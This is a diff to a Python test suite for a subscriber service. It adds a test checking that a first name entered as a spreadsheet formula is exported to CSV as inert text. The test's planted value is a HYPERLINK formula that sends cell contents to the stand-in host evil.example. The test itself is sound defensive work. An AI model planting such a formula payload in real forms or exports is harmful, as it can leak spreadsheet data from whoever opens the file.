@@ -3,6 +3,7 @@ the same answer whatever the address."""
 
 from __future__ import annotations
 
+import csv
 import email
 import email.policy
 import mailbox
@@ -47,6 +48,11 @@ def _outbox(live, count: int, timeout: float = 10.0) -> list[email.message.Email
         if len(found) >= count or time.monotonic() > deadline:
             return found
         time.sleep(0.05)
+
+
+def _first_name(live, address: str) -> str:
+    with Session(live.engine) as session:
+        return session.exec(select(Subscriber.first_name).where(Subscriber.email == address)).one()
 
 
 def _confirm_path(message) -> str:
@@ -227,3 +233,16 @@ def test_confirmation_links_expire_and_forged_ones_are_not_found(live, kit) -> N
     forged = old[:3] + ("A" if old[3] != "A" else "B") + old[4:]
     assert live.post(f"/confirmation/{forged}").status_code == 404
     assert kit.subscriber("late@example.org").status == SubscriberStatus.pending
+
+
+def test_a_first_name_typed_as_a_formula_is_exported_as_text(live, cli, workdir) -> None:
+    planted = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
+    answer = _submit(live, "mallory@example.org", planted)
+    assert answer.status_code == 200
+    assert _first_name(live, "mallory@example.org") == planted  # kept as typed
+    result = cli("subscribers", "export", "abonnes.csv")
+    assert result.exit_code == 0, result.stderr
+    with (workdir / "abonnes.csv").open(encoding="utf-8-sig", newline="") as handle:
+        (row,) = csv.DictReader(handle, delimiter=";")
+    assert row["email"] == "mallory@example.org"
+    assert row["first_name"] == "'" + planted  # Excel shows it as text, never runs it
